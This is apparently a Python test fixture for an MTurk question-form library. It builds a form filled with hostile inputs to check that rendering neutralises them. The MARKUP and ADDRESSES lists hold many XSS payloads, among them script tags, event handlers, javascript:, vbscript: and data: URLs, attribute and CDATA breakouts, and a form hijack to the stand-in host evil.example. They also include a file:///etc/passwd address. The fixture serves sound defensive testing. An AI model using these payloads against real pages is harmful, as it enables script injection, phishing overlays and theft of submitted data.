"""What hostile documents put where a page shows something."""

from mturk_xml.question_form import (
    Application,
    ApplicationParameter,
    Binary,
    Content,
    EmbeddedBinary,
    EmbeddedMimeType,
    Flash,
    FormattedContent,
    FreeTextAnswer,
    JavaApplet,
    List,
    MimeType,
    OtherSelection,
    Overview,
    Question,
    QuestionForm,
    Selection,
    SelectionAnswer,
    Selections,
    Text,
    Title,
)

MARKUP = (
    "<script>window.pwned = 1</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<img src="x" onerror="window.pwned = 1">',
    "<img src=x onerror=window.pwned=1>",
    '<img src="https://evil.example/x.png" alt="" onload="window.pwned = 1"/>',
    '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    '<iframe src="javascript:parent.pwned = 1"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.pwned = 1&lt;/script&gt;"></iframe>',
    '<a href="javascript:window.pwned = 1">go</a>',
    '<a href="JaVaScRiPt:window.pwned = 1">go</a>',
    '<a href="java&#10;script:window.pwned = 1">go</a>',
    '<a href="&#1;javascript:window.pwned = 1">go</a>',
    '<a href="data:text/html,&lt;script&gt;window.pwned = 1&lt;/script&gt;">go</a>',
    '<a href="vbscript:window.pwned = 1">go</a>',
    '<a href="javascript://evil.example/%0awindow.pwned = 1">go</a>',
    '<a href="https://evil.example/" target="_self" rel="opener" name="querySelector" accesskey="s" tabindex="1">go</a>',
    '<area alt="" href="javascript:window.pwned = 1"/>',
    '<map id="createElement" name="getElementById"><area alt="" href="javascript://%0awindow.pwned=1"/></map>',
    '<img src="https://evil.example/x.png" alt="x" name="querySelectorAll" usemap="javascript:window.pwned = 1"/>',
    '<img src="javascript:window.pwned = 1" alt="x"/>',
    '<q cite="javascript:window.pwned = 1">q</q>',
    '<blockquote cite="javascript:window.pwned = 1">q</blockquote>',
    '<img src="https://evil.example/x.png" alt="x" longdesc="javascript:window.pwned = 1"/>',
    '<p style="position: fixed; inset: 0; background: url(https://evil.example/x)">over</p>',
    '<style>* { background: url("https://evil.example/x") }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css"/>',
    '<base href="https://evil.example/"/>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/"/>',
    '<form action="https://evil.example/"><input name="Answer_1"/><button>Submit</button></form>',
    '</div></fieldset></form><form action="https://evil.example/" id="mine"><button form="mine">Submit</button>',
    "</textarea><script>window.pwned = 1</script>",
    "</style></script><script>window.pwned = 1</script>",
    "<![CDATA[<script>window.pwned = 1</script>]]>",
    "]]><script>window.pwned = 1</script><![CDATA[",
    "<!-- --><script>window.pwned = 1</script>",
    "<?php echo 1 ?><script>window.pwned = 1</script>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.pwned = 1</x:script>',
    '<svg:script xmlns:svg="http://www.w3.org/2000/svg">window.pwned = 1</svg:script>',
    '<b xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 1">b</b>',
    '<font face="x; background: url(https://evil.example/x)" color="expression(window.pwned = 1)">f</font>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">t</td></tr></table>',
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'/>",
    "<details open ontoggle=window.pwned=1>d</details>",
    "<b id='answer-1' class='question' onclick='window.pwned = 1'>b</b>",
    "{{ 7 * 7 }}{% for each in [] %}{% endfor %}",
    "&lt;script&gt;window.pwned = 1&lt;/script&gt;",
    "<b>" * 300 + "<script>window.pwned = 1</script>",
)
"""Texts that try to run a script, to load something, to cover the page, or to break out of where they stand."""

ADDRESSES = (
    "javascript:window.pwned=1",
    " javascript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "JAVASCRIPT://evil.example/%0awindow.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>",
    "vbscript:window.pwned=1",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/x.png",
    "x.png",
    "",
    'https://evil.example/"><script>window.pwned=1</script>',
    "https://evil.example/' onerror='window.pwned=1",
    "https://evil.example/`onerror=window.pwned=1`",
)
"""Addresses that are none of the web, or try to end the attribute in which they stand."""


def binary(kind: str, address: str, words: str) -> Binary:
    """Return a picture, a sound or a film."""
    return Binary(mime_type=MimeType(type=kind, sub_type=words), data_url=address, alt_text=words)  # type: ignore[arg-type]


def hostile_form() -> QuestionForm:
    """Return a form in which everything that is shown is hostile."""
    parts: list[Content] = [
        part
        for each in MARKUP
        for part in (
            Title(each),
            Text(f"{each} http://evil.example/{each}"),
            List(list_items=(each,)),
            FormattedContent(each),
        )
    ]
    media: list[Content] = [
        each
        for number, address in enumerate(ADDRESSES)
        for words in (MARKUP[number],)
        for each in (
            binary("image", address, words),
            binary("audio", address, words),
            binary("video", address, words),
            EmbeddedBinary(
                embedded_mime_type=EmbeddedMimeType(type="image", sub_type=words),
                data_url=address,
                alt_text=words,
                width='1" onload="window.pwned=1',
                height=words,
            ),
            EmbeddedBinary(
                embedded_mime_type=EmbeddedMimeType(type=words, sub_type=words),
                data_url=address,
                alt_text=words,
                width=words,
                height=words,
                application_parameters=(ApplicationParameter(name=words, value=words),),
            ),
            Application(Flash(flash_movie_url=address, width=words, height=words)),
            Application(JavaApplet(applet_path=address, applet_filename=words, width=words, height=words)),
        )
    ]
    selections = tuple(
        Selection(selection_identifier=f"{number}{each}", content=content)
        for number, each in enumerate(MARKUP)
        for content in (FormattedContent(each),)
    ) + tuple(
        Selection(selection_identifier=address, content=binary("image", address, MARKUP[number]))
        for number, address in enumerate(ADDRESSES)
    )
    return QuestionForm(
        items=(
            Overview(content=tuple(parts + media)),
            *(
                Question(
                    question_identifier=each,
                    display_name=each,
                    question_content=(Text(each),),
                    answer_specification=FreeTextAnswer(default_text=each, number_of_lines_suggestion=number),
                )
                for number, each in enumerate(MARKUP, 1)
            ),
            Question(
                question_identifier="chosen",
                question_content=(FormattedContent(MARKUP[0]),),
                answer_specification=SelectionAnswer(
                    selections=Selections(selections=selections, other_selection=OtherSelection(default_text=MARKUP[0]))
                ),
            ),
            Question(
                question_identifier="menu",
                question_content=(Text("menu"),),
                answer_specification=SelectionAnswer(
                    style_suggestion="dropdown",
                    selections=Selections(
                        selections=tuple(Selection(selection_identifier=each, content=Text(each)) for each in MARKUP)
                    ),
                ),
            ),
        )
    )
